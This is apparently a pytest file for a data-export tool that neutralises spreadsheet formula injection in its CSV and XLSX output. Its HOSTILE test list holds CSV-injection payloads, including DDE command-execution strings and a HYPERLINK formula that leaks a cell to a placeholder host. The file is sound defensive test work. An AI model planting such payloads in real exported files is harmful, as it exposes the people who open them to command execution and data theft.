"""Exports a spreadsheet opens never run a cell: CSV cells beginning with = + - @, tab or CR get
a leading single quote (the OWASP practice), XLSX never holds a formula and marks such a cell
with Excel's quote prefix; `--raw-cells` writes them as stored. The database keeps them verbatim.

Before: an XLSX export wrote a cell beginning with `=` as a live formula, and no CSV export
neutralised anything; the report itself has a student unit beginning with "-National Academy".
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from corpus_kit import built_database, connect
from fmtr.cli.app import app
from fmtr.query.export import Selection, spreadsheet_safe, write_selection

runner = CliRunner()

HOSTILE = [
    '=HYPERLINK("https://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Cells that stay: signs alone name no function (the report's "-" for nothing given), and text
# with a sign further in.
HARMLESS = ["-", "+", "plain text", "Fort Bragg - NC", "", "1-2 weeks"]


def selection() -> Selection:
    rows = [(i, cell, -5, None) for i, cell in enumerate(HOSTILE + HARMLESS)]
    return Selection(("id", "cell", "number", "blank"), rows)


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_neutralises_every_evaluable_cell_and_nothing_else() -> None:
    out = io.StringIO()
    write_selection(selection(), "csv", out)
    rows = read_csv(out.getvalue())[1:]
    cells = [r[1] for r in rows]
    assert cells == ["'" + c for c in HOSTILE] + HARMLESS
    assert {r[2] for r in rows} == {"-5"} and {r[3] for r in rows} == {""}


def test_csv_raw_cells_are_written_as_stored() -> None:
    out = io.StringIO()
    write_selection(selection(), "csv", out, raw_cells=True)
    assert [r[1] for r in read_csv(out.getvalue())[1:]] == HOSTILE + HARMLESS


def _formulas(path: Path) -> list[str]:
    """Every <f> element of the workbook's sheets, read from the file's XML itself."""
    with zipfile.ZipFile(path) as z:
        return [
            name
            for name in z.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in z.read(name)
        ]


def _ooxml_text(value: str) -> str:
    # A carriage return is stored as _x000D_ in the XML; Excel reads it back, openpyxl does not.
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value)


@pytest.mark.parametrize("raw", [False, True])
def test_xlsx_never_writes_a_formula(tmp_path: Path, raw: bool) -> None:
    import openpyxl

    path = tmp_path / "x.xlsx"
    write_selection(selection(), "xlsx", path, raw_cells=raw)
    assert _formulas(path) == []
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    # The value is the cell as stored, always text; the quote prefix marks the evaluable ones.
    assert [_ooxml_text(c.value or "") for c in cells] == HOSTILE + HARMLESS
    assert all(c.data_type == "s" for c in cells if c.value)
    assert [bool(c.quotePrefix) for c in cells] == [not raw] * len(HOSTILE) + [False] * len(
        HARMLESS
    )
    assert {row[2].value for row in sheet.iter_rows(min_row=2)} == {-5}


def test_every_answers_csv_neutralises_too() -> None:
    """The CSV of every answer (the API's format=csv and the CLI's --csv) is written here."""
    from fmtr.query.shapes import Table, csv_text

    table = Table(["cell", "variants"], [{"cell": c, "variants": [c, "x"]} for c in HOSTILE])
    rows = read_csv(csv_text(table))[1:]
    assert [r[0] for r in rows] == ["'" + c for c in HOSTILE]
    assert [r[1] for r in rows] == ["'" + c + "; x" for c in HOSTILE]


# --- the report's own cell ---------------------------------------------------------------------

WESTERN = "FY2006-2007/Western_Hemisphere_2006_2007.html"
UNIT = "-National Academy of Strategic and Political Studies (3) -Communications Institute"
FULL_UNIT = (
    UNIT + ", University of Chile (1) -Army Communications Directorate (2) -Office of the "
    "Under Secretary of the Navy (1)"
)


@pytest.fixture(scope="module")
def western(corpus: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("western")
    built_database(corpus, folder, [WESTERN]).dispose()
    return folder / "fmtr.sqlite"


def test_the_real_unit_stays_verbatim_in_the_database(western: Path) -> None:
    con = connect(f"file:{western}?mode=ro", uri=True)
    units = [u for (u,) in con.execute("SELECT student_unit FROM training") if u]
    con.close()
    assert [u for u in units if u.startswith(UNIT)] == [FULL_UNIT]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_real_unit_is_neutralised_in_an_export(western: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"chile.{fmt}"
    args = ["export", "--db", str(western), "--country", "Chile", "-f", fmt, "-o", str(out)]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    if fmt == "csv":
        rows = read_csv(out.read_text("utf-8"))
        column = rows[0].index("student_unit")
        units = [r[column] for r in rows[1:]]
        assert [u for u in units if UNIT in u] == ["'" + FULL_UNIT]
    else:
        import openpyxl

        assert _formulas(out) == []
        sheet = openpyxl.load_workbook(out).active
        assert sheet is not None
        header = [c.value for c in next(sheet.iter_rows(max_row=1))]
        cells = [row[header.index("student_unit")] for row in sheet.iter_rows(min_row=2)]
        (cell,) = [c for c in cells if isinstance(c.value, str) and c.value.startswith(UNIT)]
        assert cell.quotePrefix and cell.data_type == "s"
    # --raw-cells: as stored.
    raw = tmp_path / f"raw.{fmt}"
    result = runner.invoke(app, [*args[:-1], str(raw), "--raw-cells"])
    assert result.exit_code == 0, result.output
    if fmt == "csv":
        rows = read_csv(raw.read_text("utf-8"))
        column = rows[0].index("student_unit")
        assert [r[column] for r in rows[1:] if UNIT in r[column]] == [FULL_UNIT]
    else:
        import openpyxl

        sheet = openpyxl.load_workbook(raw).active
        assert sheet is not None
        (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == FULL_UNIT]
        assert not cell.quotePrefix and cell.data_type == "s"


def test_the_real_unit_is_neutralised_in_the_cli_and_api_csv(western: Path) -> None:
    """`fmtr unit --csv` and /api/v1/units?format=csv write the same neutralised cell; the JSON
    keeps it verbatim."""
    from fastapi.testclient import TestClient

    from fmtr.web.app import create_app

    query = "National Academy of Strategic"
    result = runner.invoke(app, ["unit", query, "--db", str(western), "--csv"])
    assert result.exit_code == 0, result.output
    cli = read_csv(result.stdout)
    with TestClient(create_app(str(western))) as client:
        api = client.get("/api/v1/units", params={"q": query, "format": "csv"})
        document = client.get("/api/v1/units", params={"q": query})
    assert api.status_code == 200 and read_csv(api.text) == cli
    names = [r[cli[0].index("name")] for r in cli[1:]]
    assert "'" + FULL_UNIT in names and FULL_UNIT not in names
    assert FULL_UNIT in [r["name"] for r in document.json()["rows"]]


def test_spreadsheet_safe_leaves_numbers_and_blanks() -> None:
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(None) is None
    assert spreadsheet_safe(1.5) == 1.5


_CELL = st.one_of(
    st.none(),
    st.integers(-(10**6), 10**6),
    st.text(alphabet=st.sampled_from("=+-@\t\r\n\x1f,\"' aZ9é"), max_size=8),
    st.text(max_size=12),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(_CELL, _CELL, _CELL), max_size=6), st.booleans())
def test_csv_reads_back_as_the_safe_or_raw_cells(rows: list[tuple[object, ...]], raw: bool) -> None:
    """Whatever the cells, a CSV reader gets back each cell (neutralised unless raw), row for
    row: no carriage return splits a row, no evaluable cell is missed or added."""
    out = io.StringIO()
    write_selection(Selection(("a", "b", "c"), rows), "csv", out, raw_cells=raw)
    back = read_csv(out.getvalue())[1:]

    def expected(v: object) -> str:
        v = v if raw else spreadsheet_safe(v)
        return "" if v is None else str(v)

    assert back == [[expected(v) for v in row] for row in rows]
